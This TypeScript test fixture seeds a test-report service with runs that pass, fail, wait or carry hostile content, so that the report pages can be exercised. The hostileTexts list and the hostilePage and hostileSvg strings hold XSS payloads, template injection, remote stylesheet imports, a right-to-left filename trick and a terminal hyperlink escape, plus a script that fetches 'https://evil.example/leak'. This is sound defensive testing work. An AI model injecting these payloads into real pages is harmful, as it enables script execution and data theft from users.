// What the page is looked at with: runs that passed, failed in several ways, wait, and are full of hostile texts.
import { crc32, deflateSync } from 'node:zlib';
import type { Run } from '@testyard/protocol';
import { tourFolder } from './page-tour.ts';
import { hostileTrace, recordedTrace } from './page-traces.ts';
import { importMany, runRedeployed, runTwice } from './rare-runs.ts';
import { runToTheEnd, type Service, saveTemplate, startRun, verdictOf } from './service.ts';
import { type StoppedRuns, stopRuns } from './stopped-runs.ts';
import { writeSuite } from './suites.ts';
import type { Yard } from './yard.ts';

const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==';

/** A picture of a cart, its button so far to the right; with `other`, what differs between the two alone. */
function picture(right: number, other = right): Buffer {
  const [width, height] = [160, 90];
  const isButton = (x: number, y: number, at: number) => y >= 55 && y < 75 && x >= 60 + at && x < 110 + at;
  const colorAt = (x: number, y: number): readonly number[] => {
    if (right !== other && isButton(x, y, right) !== isButton(x, y, other)) return [255, 0, 90];
    if (right === other && isButton(x, y, right)) return [31, 79, 216];
    return y < 18 ? [60, 70, 90] : y % 12 < 2 && x > 20 && x < 140 ? [170, 176, 186] : [244, 246, 249];
  };
  const rows = Array.from({ length: height }, (_, y) =>
    Buffer.from([0, ...Array.from({ length: width }, (_, x) => colorAt(x, y)).flat()]),
  );
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([8, 2], 8);
  const data = deflateSync(Buffer.concat(rows));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Each of them would act in a page that took it for markup, or for its own. */
export const hostileTexts = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '"><svg onload=alert(3)>',
  'javascript:alert(4)',
  '{{constructor.constructor("alert(5)")()}}',
  '<iframe srcdoc="<script>parent.alert(6)</script>">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/y.css)</style>',
  'turned \u202e txt.exe',
  '支付_超时重试 🧪',
  `${'long '.repeat(300)}name`,
] as const;

const hostilePage =
  '<!doctype html><link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example">' +
  '<link rel="prefetch" href="https://evil.example/next"><h1>Report</h1><script>parent.alert(7);fetch("https://evil.example/leak")</script>' +
  '<img src="https://evil.example/pixel.png"><a href="https://evil.example" target="_top">go</a>' +
  '<meta http-equiv="refresh" content="0;url=https://evil.example">';
const hostileSvg =
  '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><script>alert(8)</script>' +
  '<image href="https://evil.example/z.png"/><rect width="80" height="40" fill="teal"/></svg>';

/** A program that writes what a framework would: a report, a log in colours, files. */
const writer = `
import { mkdirSync, writeFileSync } from 'node:fs';
const { cases, files, log } = JSON.parse(await (await import('node:fs/promises')).readFile('what.json', 'utf8'));
const xml = (text) => text.replace(/[\\u0000-\\u0008\\u000b-\\u001f]/g, '')
  .replace(/[<>&"]/g, (found) => '&#' + found.charCodeAt(0) + ';');
mkdirSync('out', { recursive: true });
const isHere = ({ onlyWith }) => onlyWith === undefined || onlyWith === process.env.BROWSER;
const line = ({ name, suite, ms, failure, error, skipped, details = '', ...more }) => {
  const bad = isHere(more) ? failure ?? error : undefined;
  const inner = bad === undefined ? (skipped ? '<skipped message="' + xml(skipped) + '"/>' : '')
    : '<' + (failure ? 'failure' : 'error') + ' message="' + xml(bad) + '">' + xml(details || bad) + '</' + (failure ? 'failure' : 'error') + '>';
  return '<testcase classname="' + xml(suite) + '" name="' + xml(name) + '" time="' + ms / 1000 + '">' + inner + '</testcase>';
};
writeFileSync('out/report.xml', '<testsuites><testsuite name="s">' + cases.map(line).join('\\n') + '</testsuite></testsuites>');
for (const [name, base64] of Object.entries(files)) writeFileSync('out/' + name, Buffer.from(base64, 'base64'));
for (let at = 0; at < log.repeat; at += 1) console.log('[' + String(at).padStart(6, '0') + '] ' + log.lines[at % log.lines.length]);
process.exitCode = cases.some((one) => isHere(one) && (one.failure ?? one.error)) ? 1 : 0;
`;

export interface PlayedCase {
  readonly name: string;
  readonly suite: string;
  readonly ms: number;
  readonly failure?: string;
  readonly error?: string;
  readonly skipped?: string;
  readonly details?: string;
  /** It fails only where the parameter BROWSER is this. */
  readonly onlyWith?: string;
}

type Content = string | Uint8Array;

interface Played {
  readonly cases: readonly PlayedCase[];
  readonly files?: Readonly<Record<string, Content>>;
  readonly log?: { readonly lines: readonly string[]; readonly repeat: number };
}

/** Saves a template whose run ends with these cases, files and this log. */
export function savePlayed(
  { yard, service }: { readonly yard: Yard; readonly service: Service },
  name: string,
  played: Played,
): Promise<string> {
  const { cases, files = {}, log = { lines: ['nothing to see'], repeat: 3 } } = played;
  const encoded = Object.fromEntries(
    Object.entries(files).map(([file, content]) => [file, Buffer.from(content).toString('base64')]),
  );
  const what = JSON.stringify({ cases, files: { ...encoded, 'screenshot.png': pixel }, log });
  const path = writeSuite(yard.work, name, { 'write.mjs': writer, 'what.json': what });
  return saveTemplate(service, {
    ...{ name, framework: 'command', source: { path }, command: ['node', 'write.mjs'] },
    ...{ report: { junit: 'out/report.xml' }, artifacts: ['out/**'] },
    parameters: {
      BROWSER: { default: 'chromium', choices: ['chromium', 'firefox'], description: 'Which one' },
    },
  });
}

const assertion = (got: number) =>
  [
    'def test_total_with_coupon(cart):',
    '        response = cart.total(coupon="WINTER")',
    '>       assert response.status == 200',
    `E       assert ${got} == 200`,
    'E         - 200',
    `E         + ${got}`,
    '',
    'tests/test_cart.py:88: AssertionError',
  ].join('\n');

const failing: readonly PlayedCase[] = [
  ...[503, 504, 502].map((got, index) => ({
    ...{ name: `test_total_with_coupon[${index}]`, suite: 'tests.cart', ms: 3400 - index * 100 },
    ...{ failure: `assert ${got} == 200`, details: assertion(got) },
  })),
  { name: '支付_超时重试', suite: 'tests.pay', ms: 30_000, failure: 'timeout after 30 s' },
  { name: 'test_pay_button', suite: 'tests.pay', ms: 8100, failure: "locator '#pay' not found" },
  {
    ...{ name: 'test_layout', suite: 'tests.cart', ms: 640, onlyWith: 'firefox' },
    failure: 'expected 312 px, got 298 px',
  },
  { name: 'test_refund', suite: 'tests.pay', ms: 12, error: 'fixture database: connection refused' },
  { name: 'test_later', suite: 'tests.pay', ms: 0, skipped: 'needs staging' },
];
const passing: readonly PlayedCase[] = Array.from({ length: 120 }, (_, index) => ({
  ...{ name: `test_step[${index}]`, suite: `tests.suite_${index % 7}`, ms: 20 + ((index * 37) % 900) },
}));
const esc = '\u001b';
const logLines = [
  'collecting …',
  `${esc}[32mPASSED${esc}[0m tests/test_cart.py::test_step`,
  `${esc}[2mdebug${esc}[0m cache miss for key cart:42`,
  '正在检查支付结果',
  'GET /api/cart 200 in 12 ms',
];

/** As many as are promised to be no trouble, where pictures are made of them. */
const manyCases = tourFolder === undefined ? 2_000 : 100_000;

export interface PageWorld extends StoppedRuns {
  readonly passed: Run;
  readonly failed: Run;
  /** The same once more, with one failure that the first did not have. */
  readonly failedAgain: Run;
  readonly hostile: Run;
  /** Its task waits for a label that no executor has. */
  readonly waiting: Run;
  readonly repeated: Run;
  readonly redeployed: Run;
  readonly many: Run;
}

/** Makes the runs; each template is small, and they take some seconds altogether. */
export async function makePageWorld(yard: Yard, service: Service): Promise<PageWorld> {
  const place = { yard, service };
  const log = { lines: logLines, repeat: 4000 };
  await savePlayed(place, 'all-green', { cases: passing });
  await savePlayed(place, 'checkout-smoke', {
    ...{ cases: [...failing, ...passing] },
    ...{ log: { ...log, lines: [...logLines, `${esc}[31mE   assert 503 == 200${esc}[0m`] } },
    files: {
      'cart-expected.png': picture(0),
      'cart-actual.png': picture(9),
      'cart-diff.png': picture(9, 0),
      'trace.zip': recordedTrace(),
      'broken-trace.zip': 'PK',
      'report.html': '<h1>Report</h1><p>fine</p>',
      'data.json': '{"a":[1,2,{"b":null}],"cart":{"total":"503","items":["coupon","gift"]}}',
    },
  });
  await savePlayed(place, 'hostile', {
    cases: hostileTexts.map((text, index) => ({
      ...{ name: text, suite: text.slice(0, 100), ms: index },
      ...{
        failure: text,
        details: `${text}\n${esc}]8;;https://evil.example${String.fromCharCode(7)}click${esc}]8;;`,
      },
    })),
    files: {
      ...{ 'page.html': hostilePage, 'picture.svg': hostileSvg, 'notes.txt': hostileTexts.join('\n') },
      'hostile-trace.zip': await hostileTrace(hostileTexts, hostileSvg),
    },
    log: { lines: [...hostileTexts, `${esc}[2J${esc}[1;1Hcleared`], repeat: 60 },
  });
  const passed = await runToTheEnd(service, 'all-green');
  const failed = await runToTheEnd(service, 'checkout-smoke', 'all-green');
  const again = await startRun(service, ['checkout-smoke', 'all-green'], {
    parameters: { BROWSER: 'firefox' },
  });
  const failedAgain = await verdictOf(service, again.id);
  const hostile = await runToTheEnd(service, 'hostile');
  const repeated = await runTwice(place, 'checkout-smoke');
  const redeployed = await runRedeployed(place);
  const many = await importMany(place, manyCases);
  const document = {
    name: 'needs-a-gpu',
    framework: 'command',
    source: { path: yard.work },
    command: ['true'],
  };
  const labels = { gpu: 'a100' };
  await saveTemplate(service, { ...document, labels });
  const waiting = await startRun(service, ['needs-a-gpu'], { sut: { name: 'staging-3', branch: 'main' } });
  const ends = await stopRuns(place);
  return { passed, failed, failedAgain, hostile, waiting, repeated, redeployed, many, ...ends };
}
